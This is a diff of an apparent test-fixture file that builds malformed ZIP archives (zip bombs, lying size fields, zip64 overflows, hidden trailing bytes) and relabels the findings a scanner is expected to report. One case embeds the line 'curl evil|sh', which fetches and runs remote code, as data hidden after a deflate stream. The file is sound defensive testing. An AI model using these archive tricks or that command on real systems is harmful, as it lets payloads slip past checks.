@@ -111,20 +111,20 @@ def sizes(lie):
     lie("size-zero", ["size-mismatch"], "declared empty, and a script comes out", start().add("index.js", GOOD, usize=0, crc=0))
     lie("size-stored", ["size-mismatch"], "stored, with a compressed size that is not the size",
         start().add("index.js", GOOD, method=STORED, usize=10, crc=crc32(GOOD[:10])))
-    lie("size-gigabyte", ["size-mismatch"], "declared as 1 GiB, and one line comes out: whoever allocates first loses",
+    lie("size-gigabyte", ["limit-entry-bytes"], "declared as 1 GiB, and one line comes out: whoever allocates first loses",
         start().add("index.js", GOOD, usize=1 << 30))
-    lie("size-terabyte", ["size-mismatch"], "declared as 1 TiB through zip64, and one line comes out",
+    lie("size-terabyte", ["limit-entry-bytes"], "declared as 1 TiB through zip64, and one line comes out",
         start().add("index.js", GOOD, usize=MAX32, extra=zip64_extra(1 << 40),
                     local={"csize": MAX32, "extra": zip64_extra(1 << 40, len(deflate(GOOD)))}))
     lie("size-bomb-declared-small", ["size-mismatch"], "declares 10 bytes and inflates to 512 MiB",
         start().add("bomb.bin", b"0123456789", payload=deflate_zeros(1 << 29)), not_shown=["bomb.bin"])
-    lie("deflate-garbage", ["size-mismatch"], "the compressed bytes are no deflate stream",
+    lie("deflate-garbage", ["unreadable-archive"], "the compressed bytes are no deflate stream",
         start().add("index.js", GOOD, payload=b"\xff" * 40), not_shown=["index.js"])
     lie("deflate-truncated", ["size-mismatch"], "the deflate stream stops before its last block",
         start().add("index.js", GOOD, payload=deflate(GOOD)[:-6]), not_shown=["index.js"])
     lie("deflate-empty", ["size-mismatch"], "no compressed byte at all for a file of 38", start().add("index.js", GOOD, payload=b""),
         not_shown=["index.js"])
-    lie("deflate-far-distance", ["size-mismatch"], "a match that reaches before the first byte",
+    lie("deflate-far-distance", ["unreadable-archive"], "a match that reaches before the first byte",
         start().add("index.js", GOOD, payload=b"\x4b\x04\x12\x00"), not_shown=["index.js"])
     lie("deflate-tail", ["unlisted-data"], "bytes hide between the end of the deflate stream and the compressed size",
         start().add("index.js", GOOD, payload=deflate(GOOD) + b"#!/bin/sh\ncurl evil|sh\n"))
@@ -133,7 +133,7 @@ def sizes(lie):
     lie("crc", ["checksum-mismatch"], "both headers agree on a wrong checksum", start().add("index.js", GOOD, crc=0xDEADBEEF))
     lie("crc-zero", ["checksum-mismatch"], "a checksum of zero, as broken streaming writers leave it", start().add("index.js", GOOD, crc=0))
     lie("crc-of-empty", ["checksum-mismatch"], "an empty file with a checksum", start().add("empty.js", b"", method=STORED, crc=1))
-    lie("folder-with-content", ["unlisted-data"], "a folder entry carries a script: readers that open it by name see it",
+    lie("folder-with-content", ["name-conflict"], "a folder entry carries a script: readers that open it by name see it",
         start().add("lib/", GOOD, mode=0o040755))
     lie("folder-mode", ["special-file"], "a file by its name, a folder by its mode, and it has content",
         start().add("index.js", GOOD, mode=0o040755))
@@ -176,7 +176,7 @@ def extras(lie):
         start().add("index.js", GOOD, central={"usize": MAX32, "csize": MAX32, "extra": zip64_extra(size, packed) + zip64_extra(1, 1)}))
     lie("zip64-trailing", wrong, "a zip64 field with more values than the header refers to",
         start().add("index.js", GOOD, central={"usize": MAX32, "extra": zip64_extra(size, 7, 7, 7)}))
-    lie("zip64-overflow", ["overlapping-entries"], "a compressed size of 2^64-1: start + size wraps around to before the start",
+    lie("zip64-overflow", ["header-mismatch"], "a compressed size of 2^64-1: start + size wraps around to before the start",
         start().add("index.js", GOOD, csize=MAX32, usize=size, central={"extra": zip64_extra(MAX64)},
                     local={"usize": MAX32, "extra": zip64_extra(size, MAX64)}))
     lie("zip64-offset-overflow", ["header-mismatch"], "an offset of 2^64-1",
